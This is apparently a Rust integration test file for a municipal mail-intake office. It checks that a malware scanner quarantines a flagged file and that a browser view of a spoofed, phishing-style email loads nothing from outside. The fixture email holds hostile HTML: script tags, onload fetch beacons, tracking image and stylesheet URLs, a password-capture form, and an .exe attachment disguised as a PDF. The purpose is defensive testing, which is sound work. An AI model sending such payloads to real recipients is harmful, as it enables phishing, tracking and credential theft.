//! Post that means harm: what a real malware scanner finds, and what a real browser makes of a stranger's mail.

use std::fs;
use std::process::Command;

use crate::servers::{BAD, Clamd};
use crate::support::{Daemon, Manner, Office, PASSWORD, Visitor, Web};

/// A folder of shared files whose mails the house's own server has looked at.
fn office(settings: &str) -> Office {
    let office = Office::with_share();
    let before = office.read("office.toml");
    office.write(
        "office.toml",
        &format!("{before}\n[mail]\nauthserv_ids = [\"mx.stadt.example\"]\n{settings}"),
    );
    office.add_user("frieda", "Frieda Frei", "alle");
    office
}

#[test]
fn malware_is_not_opened_and_everything_else_goes_on() {
    let clamd = Clamd::start();
    let office = office(&format!("[scan]\nclamd = \"{}\"\n", clamd.socket.display()));
    let daemon = Daemon::start(&office);
    let frieda = Visitor::sign_in(office.port, "frieda");
    office.lay("gut.txt", "Guten Tag, eine Frage zur Hundesteuer: Halter: Ada Gut".as_bytes());
    let good = frieda.wait_for("steueramt", 1, 60);
    assert_eq!(frieda.get(&format!("/items/{}/documents/0/file", good[0])).status, 200);
    office
        .lay("schlecht.txt", format!("Frage zur Hundesteuer\n{BAD}\nHalter: Max Böse").as_bytes());
    let bad = frieda.wait_for("poststelle", 1, 60);
    let page = frieda.item(&bad[0]);
    assert!(page.contains("P0405") && page.contains("Vorlage.Pruefung"), "{page}");
    assert!(!page.contains("Max Böse"), "it was opened: {page}");
    for address in ["documents/0/file", "documents/0/file?anyway=1", "documents/0/pages/1.png"] {
        let answer = frieda.get(&format!("/items/{}/{address}", bad[0]));
        assert!(answer.status >= 400 && !answer.body.contains(BAD), "{address}: {}", answer.body);
    }
    // Without an answer the post goes on, and a person is told.
    drop(clamd);
    office.lay(
        "danach.txt",
        "Guten Tag, noch eine Frage zur Hundesteuer: Halter: Ida Danach".as_bytes(),
    );
    let both = frieda.wait_for("steueramt", 2, 60);
    let after = both.iter().find(|it| **it != good[0]).unwrap();
    let page = frieda.item(after);
    assert!(page.contains("P0406") && page.contains("Ida Danach"), "{page}");
    assert!(daemon.stop().success());
}

/// A mail whose sender wants the browser to load, run and send things, with a program beside it.
fn harmful(tracker: u16) -> String {
    let there = format!("http://127.0.0.1:{tracker}");
    let html = format!(
        "<html><head><script src='{there}/a.js'></script><link rel=stylesheet href='{there}/b.css'>\
         <style>@import url({there}/c.css); h1 {{ background: url({there}/d.png) }}</style>\
         <meta http-equiv=refresh content='0;url={there}/e'><base href='{there}/'></head>\
         <body background='{there}/f.png' onload='fetch(\"{there}/g\")'>\
         <h1 style='background-image:url({there}/h.png)'>Ihre Rechnung</h1>\
         <img src='{there}/i.png' srcset='{there}/j.png 2x'><picture><source srcset='{there}/k.png'></picture>\
         <video poster='{there}/l.png' src='{there}/m.mp4'></video><object data='{there}/n'></object>\
         <iframe src='{there}/o'></iframe><svg><image href='{there}/p.png'/><script>fetch('{there}/q')</script></svg>\
         <form action='{there}/r'><input name=passwort><button>Anmelden</button></form>\
         <table><tr><td>Betrag</td><td>928,20 EUR</td></tr></table>\
         <p>Frage zur Hundesteuer. <a href='{there}/s' ping='{there}/t' target=_top>Hier bezahlen</a></p></body></html>"
    );
    format!(
        "From: \"Stadtkasse <kasse@stadt.example>\" <x@fremd.example>\r\nTo: amt@stadt.example\r\n\
         Reply-To: y@anders.example\r\nSubject: Frage zur Hundesteuer\r\nMessage-ID: <s1@fremd.example>\r\n\
         Date: Mon, 02 Nov 2026 08:00:00 +0100\r\nMIME-Version: 1.0\r\n\
         Authentication-Results: mx.stadt.example; spf=fail smtp.mailfrom=fremd.example; dmarc=fail\r\n \
         header.from=fremd.example\r\nContent-Type: multipart/mixed; boundary=grenze\r\n\r\n\
         --grenze\r\nContent-Type: text/html; charset=utf-8\r\n\r\n{html}\r\n\
         --grenze\r\nContent-Type: application/pdf; name=\"rechnung.exe\"\r\nContent-Transfer-Encoding: base64\r\n\
         Content-Disposition: attachment; filename=\"rechnung.exe\"\r\n\r\nTVqQAAMAAAAEAAAA//8AALgAAAA=\r\n--grenze--\r\n"
    )
}

const INVOICES: &str = r#"title = "Rechnungen"
purpose = "Rechnungen erfassen"
owner = "Kämmerei"
data_class = "personal"
ai_act = { annex3 = "none", role = "narrow_procedural" }
[intake]
from = ["posteingang"]
[class.rechnung]
title = "Rechnung"
description = "Eine Rechnung."
signal_fact = "BT-1"
[class.rechnung.field.iban]
title = "IBAN"
type = "iban"
fact = "BT-84"
[[class.rechnung.approval]]
queue = "leitung"
[[class.rechnung.deliver]]
to = "ablage"
"#;

#[test]
fn a_strangers_mail_and_a_forged_invoice_in_a_browser() {
    let office = office("");
    office.write("workflows/rechnung.toml", INVOICES);
    let tracker = Web::start(&[Manner::Take]);
    let daemon = Daemon::start(&office);
    let frieda = Visitor::sign_in(office.port, "frieda");
    office.lay("fremd.eml", harmful(tracker.port).as_bytes());
    let forged = concat!(env!("CARGO_MANIFEST_DIR"), "/fixtures/einvoices/anderes-konto.pdf");
    office.lay("rechnung.pdf", &fs::read(forged).unwrap());
    let table = concat!(env!("CARGO_MANIFEST_DIR"), "/fixtures/parse/tabellen.pdf");
    office.lay("tabellen.pdf", &fs::read(table).unwrap());
    let mail = frieda.wait_for("steueramt", 1, 60);
    let tables = frieda.wait_for("poststelle", 1, 60);
    let invoice = frieda.wait_for("leitung", 1, 60);
    let seen = Command::new("node")
        .arg("tests/browser/post.mjs")
        .env("BASE_URL", format!("http://127.0.0.1:{}", office.port))
        .env("USER_NAME", "frieda")
        .env("PASSWORD", PASSWORD)
        .envs([("MAIL", &mail[0]), ("INVOICE", &invoice[0]), ("TABLE", &tables[0])])
        .output()
        .unwrap();
    let told = String::from_utf8_lossy(&seen.stdout);
    assert!(seen.status.success(), "{told}\n{}", String::from_utf8_lossy(&seen.stderr));
    assert!(told.contains("ok"), "the browser test checked nothing: {told}");
    assert_eq!(tracker.heard(), [] as [String; 0], "somebody learnt that the mail was looked at");
    assert!(daemon.stop().success());
}
